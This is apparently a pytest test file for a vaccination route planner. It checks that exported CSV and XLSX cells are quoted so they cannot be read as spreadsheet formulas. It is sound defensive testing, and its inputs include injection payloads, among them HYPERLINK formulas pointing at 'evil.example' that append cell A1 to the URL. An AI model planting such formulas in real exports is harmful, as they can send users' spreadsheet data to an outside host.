"""Spreadsheet formula injection: no file VaxRoute writes starts a text cell with a formula.

Real hostile lists go through the real readers, solver and writers (``write_outputs``: route
sheets, unassigned.csv, input_problems.csv); the cell rule itself and the XLSX writer are tested
on their own too. The API's exports are tested in tests/api/test_exports.py.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from planner.output import write_outputs, write_route_sheet_csv
from planner.pipeline import plan_from_inputs, read_inputs
from planner.plan_document import PlanRoute, PlanStop
from planner.settings import Settings
from tests.helpers import START, resident
from tests.hostile import (
    FORMULA_BAD_ROW,
    FORMULA_NOT_DUE,
    FORMULA_PLANNED,
    FORMULA_TEAMS,
    TRIGGERS,
    residents_rows,
    teams_rows,
    write_lists,
)


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def assert_no_formula(rows: list[list[str]], numbers: tuple[int, ...] = ()) -> None:
    """No text cell starts with a trigger; the columns the product fills with numbers hold
    numbers (or nothing), never a quoted text."""
    for row in rows:
        for k, cell in enumerate(row):
            if k in numbers:
                assert cell == "" or _is_number(cell), (k, cell, row)
            else:
                assert not cell.startswith(TRIGGERS), (k, cell, row)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formula")
    teams, residents = write_lists(
        folder,
        teams_rows(FORMULA_TEAMS, name="-Trạm"),
        residents_rows(FORMULA_PLANNED, FORMULA_NOT_DUE, FORMULA_BAD_ROW),
    )
    settings = Settings().with_solver(time_limit_s=2)
    inputs = read_inputs(residents, teams, START, settings)
    run = plan_from_inputs(inputs, START, 1, settings)
    assert run.check.ok
    out = folder / "out"
    write_outputs(run, out)
    return out


def test_route_sheets_neutralise_every_hostile_cell(written: Path) -> None:
    sheets = sorted((written / "sheets").glob("*.csv"))
    assert sheets
    rows = [row for path in sheets for row in read_cells(path)[1:]]
    assert_no_formula(rows, numbers=(0, 9, 10))
    cells = {cell for row in rows for cell in row}
    for fields in FORMULA_PLANNED:  # every hostile value is there, quoted, not dropped
        for key in ("address", "ward", "household_id", "phone"):
            assert "'" + fields[key] in cells, (key, fields[key])
    ids = {rid for row in rows for rid in row[7].split(" ")}
    assert {"'" + f["resident_id"] for f in FORMULA_PLANNED} <= ids
    assert all(row[0].isdigit() and row[9].isdigit() for row in rows)  # seq, people: numbers


def test_unassigned_and_problems_csv_neutralise_ids_wards_addresses(written: Path) -> None:
    unassigned = read_cells(written / "unassigned.csv")[1:]
    assert_no_formula(unassigned, numbers=(5,))
    row = next(r for r in unassigned if r[0] == "'" + FORMULA_NOT_DUE["resident_id"])
    assert row[3:5] == ["'" + FORMULA_NOT_DUE["ward"], "'" + FORMULA_NOT_DUE["address"]]
    problems = read_cells(written / "input_problems.csv")[1:]
    assert_no_formula(problems, numbers=(1,))
    assert any(r[4] == "'" + FORMULA_BAD_ROW["resident_id"] for r in problems), problems


def test_tab_and_carriage_return_cells_in_a_route_sheet(tmp_path: Path) -> None:
    """The readers strip leading blanks; a Resident made elsewhere may still carry them."""
    people = {
        "A": resident(
            "A", (22.0, 105.0), address="\t=1+1", phone="\r=2+2", ward="x", full_name="An"
        )
    }
    route = PlanRoute(
        "T1",
        "2026-11-23",
        "2026-11-23T07:30:00",
        "2026-11-23T09:00:00",
        0,
        0,
        (
            PlanStop(
                1,
                ("A",),
                22.0,
                105.0,
                "2026-11-23T08:00:00",
                "2026-11-23T08:00:00",
                "2026-11-23T08:10:00",
                1,
                ward="\t@w",
                household_id="\r-h",
            ),
        ),
    )
    path = tmp_path / "sheet.csv"
    write_route_sheet_csv(route, people, path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        row = list(csv.reader(fh))[1]
    assert row[4:7] == ["'\t=1+1", "'\t@w", "'\r-h"] and row[11] == "'\r=2+2"
    assert row[0] == "1" and row[9] == "1"


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data), data_only=False)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://evil.example","x")',
        "-",
        "=",
        "-0912",
    ],
)
def test_a_text_cell_starting_with_a_trigger_gets_a_quote(text: str) -> None:
    from planner.cells import neutralise

    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        -5,
        -2.5,
        0,
        3,
        1e-9,
        float("-inf"),
        True,
        None,
        "",
        "Tổ 7",
        "0912 000 001",
        "'=already quoted",
        " =1+1",
        "a=1",
        "x-y",
    ],
)
def test_numbers_and_harmless_text_are_left_alone(value: object) -> None:
    from planner.cells import neutralise

    assert neutralise(value) is value  # the same object: a number stays a number


def test_xlsx_cells_are_strings_or_numbers_never_formulas() -> None:
    from planner.cells import xlsx_bytes

    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=1+1",
        "+1",
        "@A1",
        "-1+1",
        "\t=1",
        "\r=1",
        "=",
        "plain",
        "bad\x01char",
    ]
    data = xlsx_bytes(
        {"plan": (["text", "count", "delta"], [[h, k, -k - 0.5] for k, h in enumerate(hostile)])}
    )
    cells = _xlsx_cells(data)
    assert len(cells) == 3 * (len(hostile) + 1)
    assert [c for c in cells if c.data_type == "f"] == []
    assert [
        c.value for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)
    ] == []
    texts = [c.value for c in cells if c.column == 1][1:]
    # XML reads a stored CR back as LF (end-of-line normalisation): still quoted
    assert texts[:8] == ["'" + h.replace("\r", "\n") for h in hostile[:8]]
    assert texts[8] == "plain"
    assert texts[9] == "badchar"  # a character XLSX cannot hold is dropped, not a crash
    numbers = [c for c in cells if c.column > 1 and c.row > 1]
    assert all(c.data_type == "n" for c in numbers)
    assert [c.value for c in numbers if c.column == 3][:2] == [-0.5, -1.5]


def test_csv_bytes_quotes_text_and_keeps_numbers() -> None:
    from planner.cells import csv_bytes

    data = csv_bytes(["a", "b"], [["=1+1", -3], ["@x", 2.5], ["ok", None]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["a", "b"], ["'=1+1", "-3"], ["'@x", "2.5"], ["ok", ""]]
